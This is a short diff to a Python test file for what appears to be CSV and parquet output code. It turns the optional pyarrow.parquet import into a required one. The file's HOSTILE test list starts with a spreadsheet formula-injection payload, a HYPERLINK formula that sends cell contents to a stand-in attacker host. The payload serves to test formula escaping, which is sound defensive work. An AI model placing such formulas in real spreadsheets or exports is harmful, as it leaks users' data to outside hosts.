@@ -6,6 +6,7 @@ import csv
 import json
 from pathlib import Path
 
+import pyarrow.parquet as pyarrow_parquet
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -16,8 +17,6 @@ from argmap.batching.records import analyse_file, columns, error_record
 from argmap.errors import OutputError, UsageError
 from argmap.escape import CSV_FORMULA_TRIGGERS, csv_cell, csv_cell_value
 from tests.batch.conftest import BAD, CHAINED, GOOD, write
-
-pyarrow_parquet = pytest.importorskip("pyarrow.parquet", reason="the parquet extra is part of .[test]")
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
